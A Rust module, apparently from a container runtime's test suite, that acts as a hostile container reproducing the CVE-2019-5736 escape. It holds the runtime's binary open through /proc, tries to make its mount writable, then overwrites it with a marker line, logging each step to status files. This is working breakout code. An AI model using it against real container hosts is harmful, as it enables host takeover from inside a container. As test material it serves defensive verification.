//! What a hostile container does to a runtime that starts its own program in
//! it: hold the program open until nobody runs it, make the mount it was reached
//! by writable if it can, then write to it (CVE-2019-5736).

use std::fs::{self, File};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::path::Path;
use std::process::ExitCode;
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use nix::libc;
use nix::mount::{MsFlags, mount};
use serde_json::{Value, json};

use super::processes;

/// How long it lies in wait, and how long it tries to write.
const LIMIT: Duration = Duration::from_secs(6);

/// Writes `ready` into the directory, waits for a process whose program isn't
/// its own, holds that open, writes `held`; then tries to write to it until it
/// may or time is over. What it could do stands in `done` at the end.
pub fn steal(directory: &Path) -> Result<ExitCode> {
    put(directory, "ready", &json!({}))?;
    let program = lie_in_wait()?;
    put(directory, "held", &json!({ "held": program.is_some() }))?;
    let written = program.as_ref().map(write_to);
    put(directory, "done", &json!({ "written": written }))?;
    // It is PID 1, and would take everybody along.
    std::thread::sleep(LIMIT);
    Ok(ExitCode::SUCCESS)
}

fn lie_in_wait() -> Result<Option<File>> {
    let own = fs::metadata("/proc/self/exe").context("look at the own program")?;
    let deadline = Instant::now() + LIMIT;
    while Instant::now() < deadline {
        for pid in processes()? {
            let Ok(program) = File::open(format!("/proc/{pid}/exe")) else {
                continue;
            };
            let found = program.metadata()?;
            if (found.dev(), found.ino()) != (own.dev(), own.ino()) {
                return Ok(Some(program));
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    Ok(None)
}

/// How the attempt to write ended: `yes`, or the last error.
fn write_to(program: &File) -> String {
    let path = format!("/proc/self/fd/{}", program.as_raw_fd());
    let deadline = Instant::now() + LIMIT / 2;
    loop {
        open_the_way(program);
        let opened = File::options().write(true).open(&path);
        match opened.and_then(|mut file| file.write_all(b"#!/stolen\n")) {
            Ok(()) => return "yes".into(),
            // It runs still: Text file busy.
            Err(error)
                if error.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < deadline =>
            {
                std::thread::sleep(Duration::from_millis(5));
            }
            Err(error) => return error.to_string(),
        }
    }
}

/// If it is a mount that keeps it from writing, that may be changed.
fn open_the_way(program: &File) {
    let attributes = libc::mount_attr {
        attr_set: 0,
        attr_clr: libc::MOUNT_ATTR_RDONLY,
        propagation: 0,
        userns_fd: 0,
    };
    // SAFETY: the path is an empty C string, and the attributes live through
    // the call and have the size given. Whether it succeeds shows in what follows.
    unsafe {
        libc::syscall(
            libc::SYS_mount_setattr,
            program.as_raw_fd(),
            c"".as_ptr(),
            libc::AT_EMPTY_PATH,
            &raw const attributes,
            size_of::<libc::mount_attr>(),
        )
    };
    let path = format!("/proc/self/fd/{}", program.as_raw_fd());
    let flags = MsFlags::MS_REMOUNT | MsFlags::MS_BIND;
    let _ = mount(None::<&str>, &*path, None::<&str>, flags, None::<&str>);
}

fn put(directory: &Path, name: &str, what: &Value) -> Result<()> {
    let path = directory.join(name);
    let new = path.with_extension("new");
    fs::write(&new, what.to_string())
        .and_then(|()| fs::rename(&new, &path))
        .with_context(|| format!("write {}", path.display()))
}
